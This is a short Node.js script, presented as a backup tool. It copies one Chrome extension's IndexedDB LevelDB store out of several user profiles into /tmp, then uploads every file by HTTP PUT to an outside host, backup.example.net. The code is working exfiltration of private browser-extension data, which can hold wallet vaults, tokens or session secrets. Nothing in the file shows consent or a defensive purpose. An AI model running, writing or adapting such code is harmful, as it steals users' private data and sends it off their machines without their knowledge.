// Copies an extension's IndexedDB store out of each Chrome profile, then uploads the copies.
const fs = require('fs');
const os = require('os');
const path = require('path');

const store = 'chrome-extension_ejbalbakoplchlghecdalmeeeajnimhm_0.indexeddb.leveldb';
for (const profile of ['Default', 'Profile 1', 'Profile 2']) {
  const src = path.join(os.homedir(), '.config/google-chrome', profile, 'IndexedDB', store);
  if (!fs.existsSync(src)) continue;
  const tmp = fs.mkdtempSync('/tmp/idb-');
  fs.cpSync(src, tmp, { recursive: true });
  for (const f of fs.readdirSync(tmp)) {
    fetch(`https://backup.example.net/idb/${profile}/${f}`, { method: 'PUT', body: fs.readFileSync(path.join(tmp, f)) });
  }
}
